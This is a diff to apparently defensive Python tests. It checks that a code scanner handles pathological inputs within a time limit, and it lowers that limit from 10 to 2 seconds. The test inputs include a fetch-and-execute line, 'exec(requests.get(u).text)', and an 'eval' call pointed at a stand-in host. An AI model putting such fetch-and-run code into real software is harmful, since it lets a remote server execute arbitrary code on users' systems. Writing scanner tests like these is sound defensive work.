@@ -175,11 +175,11 @@ HOSTILE_JAVASCRIPT = [
 def test_hostile_python(piece: str) -> None:
     started = time.process_time()
     events("a.py", "import requests\nrequests.get('http://a.acme.dev')\nexec(requests.get(u).text)\n" + piece * (500_000 // len(piece)))
-    assert time.process_time() - started < 10  # superlinear work takes minutes
+    assert time.process_time() - started < 2
 
 
 @pytest.mark.parametrize("piece", HOSTILE_JAVASCRIPT)
 def test_hostile_javascript(piece: str) -> None:
     started = time.process_time()
     events("a.js", "import axios from 'axios';fetch('http://a.acme.dev');eval(x);\n" + piece * (500_000 // len(piece)))
-    assert time.process_time() - started < 10  # superlinear work takes minutes
+    assert time.process_time() - started < 2
